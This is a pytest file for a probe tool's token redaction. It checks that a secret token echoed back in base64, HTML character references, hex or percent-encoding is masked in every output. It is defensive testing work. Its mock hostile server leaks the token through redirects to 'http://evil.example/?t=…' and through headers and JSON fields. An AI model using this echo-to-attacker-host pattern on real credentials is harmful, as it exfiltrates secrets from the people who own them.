"""The probe token sent back in base64 (alone, in the ``X-Probe-Token: TOKEN`` line the probe
sent, in a ``user:TOKEN`` credential; standard or URL-safe, percent-encoded in a URL) or
written with HTML character references (decimal, hexadecimal, named), or as the hexadecimal
of its bytes or every byte percent-encoded (either case: tester T25's D3) is the token too:
``<probe token>`` where answers enter (probe.token_redaction). A hostile server on loopback
echoes it each way; no output repeats it."""

from __future__ import annotations

import hashlib
import hmac
import html
import json
from base64 import b64encode, urlsafe_b64encode
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest

from probe.manifest import load
from probe.sweep import run_sweep
from probe.token_redaction import PLACEHOLDER, base64_forms, byte_forms, holds, may_hold, text
from tests.every_output import every_output
from tests.loopback_wsgi import serve

TOKEN = "s3cr3t+tökén/Ω=42"
"""A reserved character, non-ASCII letters, a slash, an '=': its base64 holds ``+`` and
``/`` at some starts, and HTML has names for some of its characters."""


def _b64(raw: str) -> str:
    return b64encode(raw.encode("utf-8")).decode("ascii")


def _decimal(token: str) -> str:
    return "".join(f"&#{ord(c)};" for c in token)


def _hexadecimal(token: str) -> str:
    return "".join(f"&#x{ord(c):X}" + ("" if i % 2 else ";") for i, c in enumerate(token))


BASE64 = {
    "alone": _b64(TOKEN),
    "alone, no padding": _b64(TOKEN).rstrip("="),
    "the header line sent": _b64(f"X-Probe-Token: {TOKEN}"),
    "user:token": _b64(f"probe:{TOKEN}"),
    "inside a longer text": _b64(f"ab{TOKEN}zz"),
    "URL-safe": urlsafe_b64encode(f"u:{TOKEN}".encode()).decode("ascii"),
    "percent-encoded": quote(_b64(f"X-Probe-Token: {TOKEN}"), safe=""),
}
def _hex(raw: str) -> str:
    return raw.encode("utf-8").hex()


def _percent_all(raw: str) -> str:
    return "".join(f"%{byte:02X}" for byte in raw.encode("utf-8"))


BYTES = {
    "hexadecimal": _hex(TOKEN),
    "hexadecimal, upper case": _hex(TOKEN).upper(),
    "every byte percent-encoded": _percent_all(TOKEN),
    "every byte percent-encoded, lower case": _percent_all(TOKEN).lower(),
}
ENTITIES = {
    "decimal": _decimal(TOKEN),
    "hexadecimal, some without ;": _hexadecimal(TOKEN),
    "named": "s3cr3t&plus;t&ouml;k&eacute;n&sol;&Omega;&equals;42",
    "some characters only": "s3cr3t&#43;t&#xf6;kén/Ω=42",
}


def _leaks(shown: str) -> list[str]:
    """What of the token ``shown`` still holds: its base64 at any start, or the token once
    the text's character references (twice: XML escapes the ``&``) and percent-escapes are
    decoded."""
    _, screens = base64_forms(TOKEN)
    plain = unquote(html.unescape(html.unescape(shown)))
    return [s for s in screens if s in shown or s in unquote(shown)] + \
        ([TOKEN] if TOKEN in plain else []) + \
        ([_hex(TOKEN)] if _hex(TOKEN) in shown.lower() else [])


@pytest.mark.parametrize("name", sorted(BASE64))
def test_every_base64_form_is_replaced(name: str) -> None:
    echoed = f"http://evil.example/?t={BASE64[name]}&next=1"
    assert holds(echoed, TOKEN), name
    shown = text(echoed, TOKEN)
    assert PLACEHOLDER in shown and not _leaks(shown), shown
    assert shown.endswith("&next=1")


@pytest.mark.parametrize("name", sorted(BYTES))
def test_the_hexadecimal_and_every_byte_percent_encoded_are_replaced(name: str) -> None:
    echoed = f"dump: {BYTES[name]}; t={BYTES[name]}&next=1"
    assert holds(echoed, TOKEN), name
    shown = text(echoed, TOKEN)
    assert shown == f"dump: {PLACEHOLDER}; t={PLACEHOLDER}&next=1", shown
    assert not _leaks(shown)
    assert may_hold(json.dumps({"label": BYTES[name]}).encode(), TOKEN)


@pytest.mark.parametrize("name", sorted(ENTITIES))
def test_every_character_reference_form_is_replaced(name: str) -> None:
    echoed = f"<p>token: {ENTITIES[name]}</p>"
    assert holds(echoed, TOKEN), name
    assert text(echoed, TOKEN) == f"<p>token: {PLACEHOLDER}</p>"


def test_near_misses_are_left_as_they_are() -> None:
    # the token's letters in another case; a reference to another character; base64 of a
    # part; a short token's base64 (four characters turn up in any text)
    for value in ("S3CR3T+TÖKÉN/Ω=42", _decimal(TOKEN).replace("&#51;", "&#52;", 1),
                  _b64(TOKEN[:6]), "&amp;&#115;3cr", _hex(TOKEN)[:-2],
                  _percent_all(TOKEN)[:-3], _hex("abc"), _percent_all("abc")):
        assert not holds(value, TOKEN), value
        assert text(value, TOKEN) == value
    assert base64_forms("abc") == ((), ())
    assert byte_forms("abc") == ((), ())


def test_a_body_holding_an_encoded_token_is_walked_one_without_is_not() -> None:
    assert may_hold(json.dumps({"label": BASE64["the header line sent"]}).encode(), TOKEN)
    assert may_hold(json.dumps({"label": ENTITIES["named"]}).encode(), TOKEN)
    assert may_hold(json.dumps({"label": ENTITIES["decimal"]}).encode(), TOKEN)
    assert not may_hold(b'{"label": "a &amp; b", "x": "czNj", "y": "%73%33"}', TOKEN)


def _echoing(environ: dict[str, Any], start_response: Callable[..., Any]) -> Iterable[bytes]:
    """A hostile server: the token it was sent, echoed base64- or entity-encoded into a
    redirect, a header, an endpoint answer's label and settings (signed as it should be)."""
    sent = environ.get("HTTP_X_PROBE_TOKEN", "").encode("latin-1").decode("utf-8")
    path = environ["PATH_INFO"]
    if path.startswith("/b64-redirect/"):
        start_response("302 Found", [
            ("Location", f"http://evil.example/?t={quote(_b64(sent), safe='')}"),
            ("Server", f"echo {_b64(f'X-Probe-Token: {sent}')}"), ("Content-Length", "0")])
        return [b""]
    if path.startswith("/entity-redirect/"):
        start_response("302 Found", [("Location", f"http://evil.example/?t={_decimal(sent)}"),
                                     ("Server", f"echo {_hexadecimal(sent)}"),
                                     ("Content-Length", "0")])
        return [b""]
    if path.startswith("/bytes-redirect/"):
        start_response("302 Found", [
            ("Location", f"http://evil.example/?t={_percent_all(sent).lower()}"),
            ("Server", f"echo {_hex(sent).upper()}"), ("Content-Length", "0")])
        return [b""]
    nonce, instance_id = environ.get("HTTP_X_PROBE_NONCE", ""), "a" * 32
    body = {
        "schema": 1, "label": f"b64={_b64(f'probe:{sent}')}", "instance_id": instance_id,
        "pid": 7, "ppid": 1, "process_group": html.escape(sent), "application_group": "x|",
        "settings_module": {"environ": _decimal(sent), "loaded": _hexadecimal(sent)},
        "request": {"host": "h", "server_name": "h", "server_port": "80", "scheme": "http",
                    "script_name": "", "path_info": "/__probe__"},
        "script_file": _hex(sent), "server": {"software": _percent_all(sent)}, "python": {},
        "started_at": "2024-01-01T00:00:00+00:00", "uptime_s": 1.0, "hits": 1, "nonce": nonce,
        "signature": hmac.new(sent.encode(), f"{nonce}\n{instance_id}".encode(),
                              hashlib.sha256).hexdigest(),
    }
    start_response("200 OK", [("Content-Type", "application/json")])
    return [json.dumps(body, ensure_ascii=False).encode("utf-8")]


def test_no_output_repeats_a_token_a_real_server_sent_back_encoded(tmp_path: Path) -> None:
    token = tmp_path / "token"
    token.write_text(TOKEN + "\n", encoding="utf-8")
    token.chmod(0o600)
    names = ("b64-redirect", "entity-redirect", "bytes-redirect", "answer")
    with serve(_echoing) as port:
        manifest = tmp_path / "m.toml"
        manifest.write_text(f'[probe]\ntoken_file = "{token}"\nsamples = 1\n' + "".join(
            f'[instances.{n.replace("-", "_")}]\nlabel = "{n}"\n'
            f'urls = ["http://127.0.0.1:{port}/{n}/"]\n' for n in names))
        report = run_sweep(load(str(manifest)), token=TOKEN, extra_probes=False)
    targets = {t.url.rstrip("/").rsplit("/", 1)[-1]: t for t in report.targets}
    assert f"http://evil.example/?t={PLACEHOLDER}" in targets["b64-redirect"].explanation
    assert f"http://evil.example/?t={PLACEHOLDER}" in targets["entity-redirect"].explanation
    assert f"http://evil.example/?t={PLACEHOLDER}" in targets["bytes-redirect"].explanation
    answered = targets["answer"].observed
    assert answered is not None
    assert answered.label == f"b64={text(_b64(f'probe:{TOKEN}'), TOKEN)}"
    assert PLACEHOLDER in answered.label
    assert answered.raw["settings_module"] == {"environ": PLACEHOLDER, "loaded": PLACEHOLDER}
    assert answered.raw["process_group"] == PLACEHOLDER
    assert answered.raw["script_file"] == PLACEHOLDER
    assert answered.raw["server"] == {"software": PLACEHOLDER}
    for name, shown in every_output(report).items():
        assert not _leaks(shown.decode("utf-8")), name
